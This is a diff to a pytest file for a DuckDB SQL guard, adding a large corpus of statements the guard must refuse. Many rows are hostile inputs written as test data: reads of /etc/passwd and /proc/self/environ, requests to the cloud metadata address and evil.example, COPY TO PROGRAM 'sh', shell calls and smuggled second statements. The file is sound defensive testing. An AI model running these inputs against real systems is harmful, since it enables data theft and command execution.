@@ -75,6 +75,11 @@ WITH a AS MATERIALIZED (SELECT 1 AS x) FROM a
 SELECT * FROM workspace.kept
 SELECT sum(amount) OVER w FROM loan WINDOW w AS (ORDER BY date)
 SELECT status, count(*) FROM loan GROUP BY ROLLUP (status)
+WITH pg_sales AS (SELECT 1 AS x), b AS (FROM pg_sales) SELECT * FROM b, pg_sales
+WITH "a.csv" AS (SELECT 1 AS x) SELECT * FROM "a.csv"
+SELECT column_name FROM information_schema.columns
+SELECT * FROM workspace.duckdb_sales
+/* outer /* inner */ SELECT * FROM read_text('x') */ SELECT 1
 """.strip().splitlines()
 
 # Statement -> a word that the refusal has to name.
@@ -282,6 +287,91 @@ SELECT * FROM duckdb_extensions() | duckdb_extensions
 SELECT set_config('threads', '1', false) | set_config
 TABLE 'x.csv' | cannot be read
 DROP TABLE loan; | DROP
+SELECT sql FROM duckdb_views | duckdb_views
+SELECT sql FROM duckdb_tables() | duckdb_tables
+SELECT view_definition FROM information_schema.views | views
+SELECT sql FROM sqlite_master | sqlite_master
+SELECT * FROM sqlite_schema | sqlite_schema
+SELECT definition FROM pg_catalog.pg_views | pg_views
+SELECT * FROM pg_views | pg_views
+SELECT * FROM pg_catalog.pg_proc | pg_proc
+SELECT path FROM duckdb_databases | duckdb_databases
+SELECT * FROM system.main.duckdb_views | duckdb_views
+WITH duckdb_secrets AS (SELECT * FROM duckdb_secrets) FROM duckdb_secrets | duckdb_secrets
+WITH a AS (WITH pg_views AS (SELECT 1) FROM pg_views) SELECT * FROM pg_views | pg_views
+WITH "x.csv" AS (FROM "x.csv") FROM "x.csv" | x.csv
+WITH a AS (FROM b), "x.csv" AS (SELECT 1), b AS (SELECT 1) SELECT * FROM (FROM "y.csv") | y.csv
+SELECT pg_get_viewdef(1) | pg_get_viewdef
+SELECT start_ui() | start_ui
+CALL start_ui() | CALL
+SELECT * FROM pragma_table_info('loan') | pragma_table_info
+SELECT * FROM pragma_database_size() | pragma_database_size
+SELECT * FROM system.main.duckdb_settings() | duckdb_settings
+SELECT * FROM "duckdb_secrets"() | duckdb_secrets
+SELECT * FROM query_table(['loan']) | query_table
+WITH c AS (COPY loan TO 'y.csv') SELECT * FROM c | COPY
+WITH c AS NOT MATERIALIZED (FROM 'x.csv') FROM c | x.csv
+EXPLAIN ANALYZE COPY loan TO 'y.csv' | EXPLAIN ANALYZE
+PREPARE p AS COPY loan TO 'y.csv' | PREPARE
+ATTACH 'postgres:host=evil' AS e (TYPE postgres) | ATTACH
+SET VARIABLE a = (SELECT content FROM read_text('/etc/passwd')) | SET
+SELECT * FROM parquet_kv_metadata('x.parquet') | parquet_kv_metadata
+SELECT * FROM parquet_bloom_probe('x.parquet', 'a', 1) | parquet_bloom_probe
+SELECT * FROM "http://169.254.169.254/latest/meta-data" | http
+SELECT * FROM 'hf://datasets/x/y.parquet' | hf
+SELECT * FROM 'az://b/x.parquet' | az
+SELECT $tag$ ; $tag$ FROM read_text($$/etc/passwd$$) | read_text
+FROM read_text($$/etc/passwd$$) | read_text
+SELECT * FROM read_text(E'\\x2fetc/passwd') | read_text
+SELECT $$a$$; DROP TABLE loan | second statement
+/* a /* b */ DROP TABLE loan; */ SELECT 1; DROP TABLE loan | second statement
+SELECT * FROM read_text/**/('x') | read_text
+CREATE MACRO m() AS TABLE FROM read_text('x') | CREATE
+CREATE OR REPLACE FUNCTION workspace.f() AS TABLE FROM read_text('x') | CREATE
+CREATE TEMP MACRO m(x) AS getenv(x) | CREATE
+INSTALL httpfs FROM 'http://evil.example' | INSTALL
+SELECT list_transform(['HOME'], lambda x: getenv(x)) | getenv
+SELECT apply(['HOME'], x -> getenv(x)) | getenv
+SELECT (VALUES (getenv('HOME'))) | getenv
+SELECT * REPLACE (getenv('HOME') AS status) FROM loan | getenv
+SELECT sum(amount) FILTER (WHERE getenv('A') = '') FROM loan | getenv
+SELECT amount FROM loan GROUP BY ALL HAVING getenv('A') = '' | getenv
+SELECT * FROM loan WHERE status IN (FROM 'x.csv') | x.csv
+SELECT * FROM (DESCRIBE 'x.csv') | x.csv
+SELECT * FROM (SUMMARIZE 'x.csv') | x.csv
+SUMMARIZE (FROM read_csv('x.csv')) | read_csv
+PIVOT (FROM 'x.csv') ON a IN (1) USING count(*) | x.csv
+UNPIVOT (FROM 'x.csv') ON a INTO NAME n VALUE v | x.csv
+VALUES (getenv('HOME')) | getenv
+SHOW TABLES FROM 'x.csv' | x.csv
+BEGIN; DROP TABLE loan; COMMIT | BEGIN
+SELECT 1 WHERE 1 = 1; ATTACH ':memory:' | second statement
+SELECT 1 UNION (DELETE FROM loan RETURNING 1) | DELETE
+SELECT * FROM (INSERT INTO loan VALUES (1) RETURNING *) | INSERT
+SELECT * FROM loan SEMI JOIN 'x.parquet' USING (loan_id) | x.parquet
+SELECT * FROM unnest((SELECT list(content) FROM read_text('x'))) | read_text
+SELECT * FROM range((SELECT count(*) FROM read_text('x'))) | read_text
+SELECT * FROM json_each((SELECT content FROM read_text('x'))) | read_text
+SELECT * FROM '/proc/self/environ' | environ
+COPY (SELECT 1) TO '/dev/stdout' | COPY
+COPY (SELECT 1) TO PROGRAM 'sh' | COPY
+SELECT * FROM iceberg_metadata('x') | iceberg_metadata
+SELECT * FROM ducklake_snapshots('x') | ducklake_snapshots
+SELECT * FROM sqlite_attach('x.db') | sqlite_attach
+SELECT * FROM shell('ls') | shell
+SELECT * FROM http_get('http://evil.example') | http_get
+SELECT http_post('http://evil.example', {}, {}) | http_post
+CALL dbgen(sf=0.01) | CALL
+SELECT * FROM dbgen(sf=0.01) | dbgen
+USE workspace | USE
+SET custom_extension_repository = 'http://evil.example' | SET
+CREATE SECRET (TYPE http, BEARER_TOKEN 'x') | CREATE
+DROP SECRET x | DROP
+SELECT 1 INTO workspace.y | INTO
+LISTEN x | LISTEN
+SELECT * FROM repeat_row(1, num_rows = 3) | repeat_row
+SELECT * FROM test_all_types() | test_all_types
+DO $$ BEGIN END $$ | DO
 """.strip().splitlines()
 
 
@@ -301,11 +391,11 @@ def test_anything_else_is_refused_by_name(row: str) -> None:
 # Stays inside the engine's own memory, where DuckDB's lock has nothing against it; the guard alone refuses it.
 INSIDE = (
     "CREATE", "DROP", "COMMENT", "PRAGMA", "CHECKPOINT", "FORCE", "VACUUM", "ANALYZE", "BEGIN", "START", "PREPARE",
-    "DEALLOCATE", "EXPLAIN", "ABORT",
+    "DEALLOCATE", "EXPLAIN", "ABORT", "USE",
 )  # fmt: skip
 HARMLESS = (
     "second statement", "empty", "query_table", "current_setting", "getvariable", "duckdb_", "pragma_", "pg_settings",
-    "write_log", "sleep_ms",
+    "write_log", "sleep_ms", "pg_", "sqlite_", "views", "repeat_row", "test_all_types",
 )  # fmt: skip
 REACHING = [
     row for row in REFUSED
@@ -375,6 +465,12 @@ def test_corpus_is_large_enough() -> None:
 def test_empty_sql_is_refused(sql: str) -> None:
     with pytest.raises(RefusedSQL, match="empty"):
         check(sql)
+
+
+@pytest.mark.parametrize("sql", ["SELECT ';' AS s; -- done; SELECT 2", "SELECT ';' AS s ; /* a; */", "SELECT ';' AS s;;"])
+def test_what_follows_a_semicolon_as_a_comment_is_no_second_statement(bare_engine: Engine, sql: str) -> None:
+    assert check(sql) == "SELECT ';' AS s"
+    assert bare_engine.query(sql).s[0] == ";"
 
 
 def test_known_table_may_be_called_like_a_file() -> None:
